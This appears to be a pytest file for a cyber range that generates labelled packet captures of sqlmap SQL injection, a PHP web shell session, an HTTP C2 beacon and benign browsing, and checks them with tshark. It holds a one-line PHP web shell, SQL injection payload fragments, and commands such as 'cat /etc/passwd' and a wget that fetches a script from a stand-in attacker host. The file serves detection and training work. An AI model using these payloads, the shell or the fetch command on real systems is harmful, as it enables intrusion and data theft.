"""Web techniques (sqlmap, web shell, HTTP C2 beacon) and benign web browsing, as tshark reads them."""
import json
import re
from collections import Counter, defaultdict
from urllib.parse import unquote

import pytest

from range.core import ValidationErrors, parse_iso
from range.replay import step_start
from range.topology import layout
from tests.conftest import tshark_fields
from tests.helpers import assert_truth_exact, one_step

SQLMAP_UA = "sqlmap/1.7.2#stable (https://sqlmap.org)"


def _truth(out):
    return json.loads((out / "truth.json").read_text())


def _within_duration(scn, out):
    """Every packet of the step lies in [t0, t0 + duration(params)]."""
    step = scn.steps[0]
    t0 = step_start(scn, step, 1, "blue")
    s = _truth(out)["steps"][0]
    assert t0 - 1e-6 <= parse_iso(s["start"]) and parse_iso(s["end"]) <= t0 + step.duration + 1e-6, \
        (t0, s["start"], s["end"], step.duration)


def _not_malformed(pcap):
    bad = tshark_fields(pcap, ["frame.number", "_ws.col.Protocol"], "_ws.malformed || _ws.expert.severity == error")
    assert bad == [], bad[:5]


def _requests(pcap, src=None, extra=()):
    flt = "http.request" + (f" && ip.src == {src}" if src else "")
    return tshark_fields(pcap, ["tcp.stream", "http.request.method", "http.request.uri", "http.user_agent", "http.host",
                                "http.content_type", *extra], flt)


def _responses(pcap, extra=()):
    return tshark_fields(pcap, ["tcp.stream", "http.response.code", "http.content_type", "http.request_in", *extra],
                         "http.response")


def _hosts(scn):
    return layout(scn.env, "blue", 1).hosts


# ---- http_sqli -----------------------------------------------------------------------------

def test_sqli_looks_like_sqlmap(tmp_path):
    res, scn, out = one_step(tmp_path, "http_sqli", "attacker", ["web"], {"requests": 100},
                             benign={"web": {"rate": 0.3}, "dns": {"rate": 1}})
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    atk, web = hosts["attacker"].ip, hosts["web"].ip
    reqs = _requests(pcap, atk)
    assert len(reqs) == 100
    assert {r[3] for r in reqs} == {SQLMAP_UA}
    assert {r[4] for r in reqs} == {"portal.ministry.gov.example"}
    assert {r[1] for r in reqs} == {"GET"}
    uris = [r[2] for r in reqs]
    assert all(u.startswith("/news.php?id=") for u in uris)
    assert uris[0] == "/news.php?id=3"
    # encoded as sqlmap encodes: spaces %20, '=' %3D, parentheses, commas
    assert any("%20AND%20" in u and "%3D" in u for u in uris)
    plain = [unquote(u) for u in uris]
    assert any("xp_cmdshell" in u and "&" in u for u in plain[:3]), "the WAF/IPS probe"
    assert any(re.search(r"id=3[\"'(),.]{10}$", u) for u in plain), "the heuristic random-characters payload"
    assert any(re.search(r" AND (\d{4})=\1$", u) for u in plain)
    assert any(re.search(r" AND (\d{4})=(?!\1)\d{4}$", u) for u in plain)
    assert any("FLOOR(RAND(0)*2)" in u for u in plain)
    assert sum("SLEEP(5)" in u and " AND (SELECT" in u for u in plain) == 2
    assert any(u.endswith("ORDER BY 1-- -") for u in plain)
    assert any(re.search(r"UNION ALL SELECT (NULL,)+CONCAT\(0x71", u) for u in plain)
    assert sum(bool(re.search(r"FROM portal\.users LIMIT \d+,1-- -$", u)) for u in plain) > 20
    # nginx/PHP answers: pages, missing rows, database errors
    by_frame = {}
    for fr, uri in tshark_fields(pcap, ["frame.number", "http.request.uri"], f"http.request && ip.src == {atk}"):
        by_frame[fr] = unquote(uri)
    resp = tshark_fields(
        pcap,
        ["http.response.code", "http.content_type", "http.request_in", "http.time", "http.server", "http.file_data"],
        f"http.response && ip.src == {web} && ip.dst == {atk}",
    )
    assert len(resp) == 100
    assert {r[0] for r in resp} == {"200", "404", "500"}
    assert {r[1] for r in resp} == {"text/html; charset=UTF-8"}
    assert {r[4] for r in resp} == {"nginx/1.22.1"}
    errors = [r[5] for r in resp if r[0] == "500"]
    assert any("You have an error in your SQL syntax" in e and "MariaDB" in e for e in errors)
    assert any("Duplicate entry" in e and "group_key" in e for e in errors)
    # the two SLEEP(5) probes are answered five seconds late, nothing else is
    slow = [by_frame[r[2]] for r in resp if float(r[3]) >= 5.0]
    assert len(slow) == 2 and all("SLEEP(5)" in u for u in slow)
    # the dump shows up in the pages
    assert any("$2y$10$" in r[5] and "@ministry.gov.example" in r[5] for r in resp)
    # keep-alive: far fewer connections than requests
    streams = Counter(r[0] for r in reqs)
    assert len(streams) < 10 and max(streams.values()) >= 30
    _not_malformed(pcap)
    assert_truth_exact(out)
    _within_duration(scn, out)


def test_sqli_random_agent_string_parameter(tmp_path):
    res, scn, out = one_step(
        tmp_path,
        "http_sqli",
        "attacker",
        ["web"],
        {
            "requests": 90,
            "path": "/search.php",
            "parameter": "q",
            "value": "budget",
            "user_agent": "random",
            "rate": 20,
            "time_sec": 3,
        },
    )
    pcap = out / "capture.pcap"
    reqs = _requests(pcap)
    assert len(reqs) == 90
    uas = {r[3] for r in reqs}
    assert len(uas) == 1 and "sqlmap" not in uas.pop()
    plain = [unquote(r[2]) for r in reqs]
    assert all(u.startswith("/search.php?q=") for u in plain)
    assert any(re.search(r"q=budget' AND (\d{4})=\1 AND '(\w{4})'='\2$", u) for u in plain)
    assert sum("SLEEP(3)" in u and " AND (SELECT" in u for u in plain) == 2
    assert_truth_exact(out)
    _within_duration(scn, out)


@pytest.mark.parametrize(
    "params,needle",
    [
        ({"requests": 10}, "greater than or equal to 75"),
        ({"delay": 1, "rate": 5}, "either delay"),
        ({"path": "news.php"}, "path"),
        ({"user_agent": "curl"}, "user_agent"),
        ({"parameter": "id;drop"}, "parameter"),
    ],
)
def test_sqli_bad_params(tmp_path, params, needle):
    with pytest.raises(ValidationErrors) as e:
        one_step(tmp_path, "http_sqli", "attacker", ["web"], params)
    assert needle in str(e.value)


# ---- webshell ------------------------------------------------------------------------------


def test_webshell_upload_and_commands(tmp_path):
    cmds = [
        "whoami",
        "id",
        "uname -a",
        "cat /etc/passwd",
        "ls -la",
        "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh",
    ]
    res, scn, out = one_step(
        tmp_path, "webshell", "attacker", ["web"], {"commands": cmds, "interval": 5}, benign={"web": {"rate": 0.3}}
    )
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    atk, web = hosts["attacker"].ip, hosts["web"].ip
    # the upload: multipart/form-data with a .php file part holding the shell
    parts = tshark_fields(
        pcap,
        [
            "http.request.uri",
            "http.content_type",
            "mime_multipart.header.content-disposition",
            "mime_multipart.header.content-type",
            "http.file_data",
        ],
        f"http.request.method == POST && ip.src == {atk}",
    )
    assert len(parts) == 1
    uri, ctype, disp, ptype, data = parts[0]
    assert uri == "/upload.php" and ctype.startswith("multipart/form-data; boundary=---------------------------")
    m = re.search(r'filename="(img_[a-z0-9]{6}\.php)"', disp)
    assert m, disp
    shell = m.group(1)
    assert ptype == "application/x-httpd-php"
    assert "<?php system($_REQUEST['cmd']); ?>" in data
    # then the commands, in order, through the shell
    reqs = _requests(pcap, atk)
    used = [unquote(r[2].split("cmd=", 1)[1]) for r in reqs if r[2].startswith(f"/uploads/{shell}?cmd=")]
    assert used == [c.replace("{attacker}", atk) for c in cmds]
    assert {r[3] for r in reqs} == {"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"}
    assert len({r[0] for r in reqs if "cmd=" in r[2]}) == 1, "typed into one keep-alive connection"
    out_by_cmd = {}
    frames = dict(tshark_fields(pcap, ["frame.number", "http.request.uri"], f"http.request && ip.src == {atk}"))
    text_to_atk = f'http.response && ip.dst == {atk} && http.content_type contains "text/html"'
    for code, ctype, req_in, body in tshark_fields(
        pcap, ["http.response.code", "http.content_type", "http.request_in", "http.file_data"], text_to_atk
    ):
        uri = frames.get(req_in, "")
        if "cmd=" in uri:
            assert code == "200" and ctype == "text/html; charset=UTF-8"
            out_by_cmd[unquote(uri.split("cmd=", 1)[1])] = body
    assert out_by_cmd["whoami"] == "www-data\\n"
    assert out_by_cmd["id"].startswith("uid=33(www-data)")
    assert "root:x:0:0:root:/root:/bin/bash" in out_by_cmd["cat /etc/passwd"]
    assert shell in out_by_cmd["ls -la"]
    # the wget makes the web server fetch the tool from the intruder
    fetch = _requests(pcap, web)
    assert [(r[1], r[2], r[3], r[4]) for r in fetch] == [("GET", "/lse.sh", "Wget/1.21.3", f"{atk}:8000")]
    _not_malformed(pcap)
    truth = assert_truth_exact(out)
    assert {(f["src"], f["dst"]) for f in truth["steps"][0]["flows"]} == {(atk, web), (web, atk)}
    _within_duration(scn, out)


def test_webshell_plain_shell_across_the_router(tmp_path):
    res, scn, out = one_step(
        tmp_path,
        "webshell",
        "attacker",
        ["web"],
        {"commands": ["id", "nosuchtool -x"], "interval": 3, "shell": "plain"},
        env="dmz-lan",
    )
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    atk, web = hosts["attacker"].ip, hosts["web"].ip
    resp = tshark_fields(pcap, ["http.content_type", "http.file_data"], f"http.response && ip.src == {web}")
    plain = [r for r in resp if r[0] == "text/plain; charset=UTF-8"]
    assert len(plain) == 2 and "sh: 1: nosuchtool: not found" in plain[1][1]
    assert {r[0] for r in _requests(pcap, atk)} and _requests(pcap, atk)[0][4] == "portal.finance.gov.example"
    # the intruder is on the internet: on the DMZ its packets come from the router, one hop down
    rows = tshark_fields(pcap, ["eth.src", "ip.ttl"], f"ip.src == {atk}")
    assert {r[0] for r in rows} == {hosts["router"].macs["dmz"]}
    assert {r[1] for r in rows} == {"63"}
    assert_truth_exact(out)
    _within_duration(scn, out)


@pytest.mark.parametrize(
    "params,needle",
    [
        ({"commands": []}, "at least 1"),
        ({"commands": ["id\nwhoami"]}, "one line"),
        ({"commands": ["  "]}, "empty"),
        ({"interval": 0}, "greater than 0"),
        ({"shell": "c99"}, "shell"),
    ],
)
def test_webshell_bad_params(tmp_path, params, needle):
    with pytest.raises(ValidationErrors) as e:
        one_step(tmp_path, "webshell", "attacker", ["web"], params)
    assert needle in str(e.value)


# ---- http_c2_beacon --------------------------------------------------------------------------


def test_c2_beacon_period_jitter_and_tasks(tmp_path):
    res, scn, out = one_step(
        tmp_path,
        "http_c2_beacon",
        "ws1",
        ["attacker"],
        {"period": 5, "jitter": 0.3, "beacons": 12, "tasks": 0.4},
        benign={"dns": {"rate": 2}, "web": {"rate": 0.2}},
    )
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    ws, c2 = hosts["ws1"].ip, hosts["attacker"].ip
    reqs = tshark_fields(
        pcap,
        [
            "frame.time_epoch",
            "tcp.stream",
            "http.request.method",
            "http.request.uri",
            "http.host",
            "http.user_agent",
            "http.cookie",
            "http.content_type",
        ],
        f"http.request && ip.src == {ws} && ip.dst == {c2}",
    )
    gets = [r for r in reqs if r[2] == "GET"]
    posts = [r for r in reqs if r[2] == "POST"]
    assert len(gets) == 12 and {r[3] for r in gets} == {"/pixel.gif"}
    domain = gets[0][4]
    assert {r[4] for r in reqs} == {domain} and not domain.endswith("gov.example")
    assert len({r[5] for r in reqs}) == 1 and gets[0][5].startswith("Mozilla/5.0")
    assert len({r[6] for r in gets}) == 1 and re.fullmatch(r"[A-Za-z0-9+/]{171}=", gets[0][6])
    assert len({r[1] for r in reqs}) == len(reqs), "one connection per check-in"
    assert posts and all(
        re.fullmatch(r"/submit\.php\?id=\d+", r[3]) and r[7] == "application/octet-stream" for r in posts
    )
    starts = [float(r[0]) for r in gets]
    gaps = [b - a for a, b in zip(starts, starts[1:])]
    assert all(5 * 0.7 - 0.01 <= g <= 5 + 3.5 for g in gaps), gaps
    resp = tshark_fields(
        pcap, ["http.response.code", "http.content_type", "http.content_length"], f"http.response && ip.src == {c2}"
    )
    assert {r[0] for r in resp} == {"200"}
    assert {r[1] for r in resp} == {"application/octet-stream", "text/html"}
    assert all(int(r[2]) % 16 == 0 for r in resp), "empty or whole AES blocks plus HMAC"
    # the implant resolved its domain through the office resolver first
    dns = tshark_fields(
        pcap, ["dns.qry.name", "dns.a"], f"dns.flags.response == 1 && ip.dst == {ws} && dns.qry.name == {domain}"
    )
    assert dns and dns[0][1] == c2
    _not_malformed(pcap)
    assert_truth_exact(out)
    _within_duration(scn, out)


def test_c2_beacon_for_a_duration_across_the_router(tmp_path):
    res, scn, out = one_step(
        tmp_path,
        "http_c2_beacon",
        "ws1",
        ["attacker"],
        {"period": 10, "jitter": 0.1, "duration": "1m", "uri": "/jquery-3.3.1.min.js"},
        env="dmz-lan",
    )
    assert scn.steps[0].duration == 60
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    ws, _c2 = hosts["ws1"].ip, hosts["attacker"].ip
    gets = tshark_fields(pcap, ["http.request.uri", "eth.dst"], f"http.request.method == GET && ip.src == {ws}")
    assert 5 <= len(gets) <= 7 and {g[0] for g in gets} == {"/jquery-3.3.1.min.js"}
    assert {g[1] for g in gets} == {hosts["router"].macs["lan"]}, "to the internet through the router"
    assert_truth_exact(out)
    _within_duration(scn, out)


@pytest.mark.parametrize(
    "params,needle",
    [
        ({"beacons": 3, "duration": 60}, "not both"),
        ({"jitter": 1.0}, "jitter"),
        ({"period": 0}, "greater than 0"),
        ({"duration": 1}, "room for one check-in"),
        ({"uri": "pixel.gif"}, "uri"),
    ],
)
def test_c2_beacon_bad_params(tmp_path, params, needle):
    with pytest.raises(ValidationErrors) as e:
        one_step(tmp_path, "http_c2_beacon", "ws1", ["attacker"], params)
    assert needle in str(e.value)


def test_c2_beacon_is_deterministic(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = one_step(
        tmp_path / "a",
        "http_c2_beacon",
        "ws1",
        ["attacker"],
        {"period": 3, "beacons": 5},
        benign={"web": {"rate": 0.2}},
    )[2]
    b = one_step(
        tmp_path / "b",
        "http_c2_beacon",
        "ws1",
        ["attacker"],
        {"period": 3, "beacons": 5},
        benign={"web": {"rate": 0.2}},
    )[2]
    assert (a / "capture.pcap").read_bytes() == (b / "capture.pcap").read_bytes()


# ---- benign web ----------------------------------------------------------------------------


def test_benign_web_browsing(tmp_path):
    res, scn, out = one_step(
        tmp_path, "syn_scan", "attacker", ["files"], {"ports": "21-23"}, duration="6m", benign={"web": {"rate": 0.5}}
    )
    pcap = out / "capture.pcap"
    hosts = _hosts(scn)
    web = hosts["web"].ip
    clients = {hosts[c].ip for c in ("ws1", "ws2", "ws3")}
    reqs = tshark_fields(
        pcap,
        [
            "ip.src",
            "tcp.stream",
            "http.request.method",
            "http.request.uri",
            "http.user_agent",
            "http.host",
            "http.content_type",
        ],
        "http.request",
    )
    assert len(reqs) > 150
    assert {r[0] for r in reqs} <= clients and {r[5] for r in reqs} == {"portal.ministry.gov.example"}
    assert all("Windows NT 10.0" in r[4] and r[4].startswith("Mozilla/5.0") for r in reqs)
    assert len({r[4] for r in reqs}) >= 2, "workstations have their own browsers"
    posts = [r for r in reqs if r[2] == "POST"]
    kinds = {r[6].split(";")[0] for r in posts}
    assert kinds >= {"application/x-www-form-urlencoded", "application/json", "multipart/form-data"}
    bodies = tshark_fields(
        pcap,
        ["http.request.uri", "http.file_data"],
        'http.request.method == POST && !(http.content_type contains "multipart")',
    )
    assert any(r[0] == "/login.php" and "password=" in r[1] for r in bodies)
    assert any(r[3].startswith("/api/v1/") for r in posts)
    # words that trip careless rules: quotes and SQL keywords in searches and bodies
    searches = [unquote(r[3].replace("+", " ")) for r in reqs if r[3].startswith("/search.php?q=")]
    assert any("select" in s for s in searches) and any(("'" in s or '"' in s) for s in searches)
    assert any("select" in r[1] for r in bodies)
    resp = tshark_fields(pcap, ["http.response.code", "http.content_type"], f"http.response && ip.src == {web}")
    codes = {r[0] for r in resp}
    assert codes >= {"200", "301", "302", "304", "404"}
    types = {r[1] for r in resp}
    assert types >= {
        "text/html; charset=UTF-8",
        "text/css",
        "application/javascript",
        "image/png",
        "font/woff2",
        "application/json",
        "application/pdf",
    }
    # keep-alive connections carry several requests
    per_stream = defaultdict(int)
    for r in reqs:
        per_stream[r[1]] += 1
    assert max(per_stream.values()) >= 5 and len(per_stream) < len(reqs) / 2
    parts = tshark_fields(pcap, ["mime_multipart.header.content-disposition"], "mime_multipart")
    assert parts and all(re.search(r'name="document";\s*filename="\w+_\d{4}\.(pdf|jpg|png)"', p[0]) for p in parts)
    _not_malformed(pcap)
    assert_truth_exact(out)


@pytest.mark.parametrize(
    "params,needle",
    [
        ({"rate": 1, "max_pages": 0}, "max_pages"),
        ({"max_pages": 3}, "rate"),
        ({"rate": 1, "colour": "red"}, "unknown key 'colour'"),
    ],
)
def test_benign_web_bad_params(tmp_path, params, needle):
    with pytest.raises(ValidationErrors) as e:
        one_step(tmp_path, "syn_scan", "attacker", ["web"], {"ports": "80"}, benign={"web": params})
    assert needle in str(e.value)
